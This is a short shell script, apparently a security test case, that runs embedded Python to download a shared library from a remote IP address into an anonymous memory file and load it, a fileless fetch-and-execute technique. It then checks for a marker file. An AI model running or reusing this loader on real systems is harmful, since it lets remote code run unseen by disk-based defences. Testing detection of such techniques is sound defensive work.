#!/bin/sh
. /opt/case/case.sh

python3 - <<'END'
import ctypes, os, urllib.request
f = os.memfd_create(""); os.write(f, urllib.request.urlopen("http://203.0.113.10/programs/preload.so").read())
ctypes.CDLL(f"/proc/self/fd/{f}")
END
test -e /tmp/reached
took_place
